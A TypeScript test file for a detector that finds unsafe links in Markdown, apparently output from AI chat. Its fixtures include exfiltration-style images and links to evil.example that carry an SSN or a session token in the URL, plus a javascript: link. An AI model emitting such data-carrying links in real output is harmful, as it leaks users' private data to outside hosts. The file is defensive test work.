import { describe, expect, it } from 'vitest';
import { codeRanges } from './code-ranges.js';
import { findUnsafeLinks } from './links.js';
import { DomainAllowList } from './urls.js';

const find = (text: string, domains: string[] = []) =>
  findUnsafeLinks(text, { allow: new DomainAllowList(domains), skip: codeRanges(text) }).map((s) => ({
    text: text.slice(s.start, s.end),
    entity: s.entity,
    score: s.score,
    replacement: s.replacement,
  }));

describe('findUnsafeLinks', () => {
  it('flags a Markdown image to an outside host, replacing it with its alt text', () => {
    expect(find('Done ![summary](https://evil.example/log?q=SSN%20123-45-6789) ok')).toEqual([
      {
        text: '![summary](https://evil.example/log?q=SSN%20123-45-6789)',
        entity: 'EXTERNAL_IMAGE',
        score: 1,
        replacement: 'summary',
      },
    ]);
  });

  it('follows reference-style images to their definition', () => {
    const text = 'See ![chart][c]\n\n[c]: https://evil.example/c.png "t"';
    expect(find(text)).toEqual([
      { text: '[c]: https://evil.example/c.png "t"', entity: 'EXTERNAL_IMAGE', score: 1, replacement: '' },
    ]);
  });

  it('with an allow list, flags links and bare URLs elsewhere; subdomains of allowed hosts pass', () => {
    const text =
      'Read [the guide](https://docs.acme.example/guide), then [this](https://other.example/x) or https://other.example/y. Also <https://other.example/z>.';
    expect(find(text, ['acme.example'])).toEqual([
      { text: '[this](https://other.example/x)', entity: 'UNTRUSTED_LINK', score: 0.8, replacement: 'this' },
      { text: '<https://other.example/z>', entity: 'UNTRUSTED_LINK', score: 0.8, replacement: 'other.example' },
      { text: 'https://other.example/y', entity: 'UNTRUSTED_LINK', score: 0.8, replacement: 'other.example' },
    ]);
  });

  it('without an allow list, flags only links that carry data', () => {
    expect(find('See [docs](https://nodejs.org/api/fs.html) and https://example.com/about.')).toEqual([]);
    const leak = find('Click [here](https://evil.example/?session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0)');
    expect(leak).toMatchObject([{ entity: 'EXFILTRATION_URL', score: 0.7, replacement: 'here' }]);
  });

  it('flags javascript: links and ignores relative links, mailto and code (near misses)', () => {
    expect(find('[x](javascript:alert(1))')[0]).toMatchObject({ entity: 'JAVASCRIPT_URL', replacement: 'x' });
    expect(find('[home](/index.html) [mail](mailto:a@b.example) `![x](https://evil.example/a.png)`')).toEqual([]);
    expect(find('```\n![x](https://evil.example/a.png)\n```')).toEqual([]);
  });

  it('scans 200 KB of unbalanced brackets linearly', () => {
    const text = '[a](http://x'.repeat(16_000);
    const t0 = performance.now();
    find(text);
    expect(performance.now() - t0).toBeLessThan(1500);
  });
});
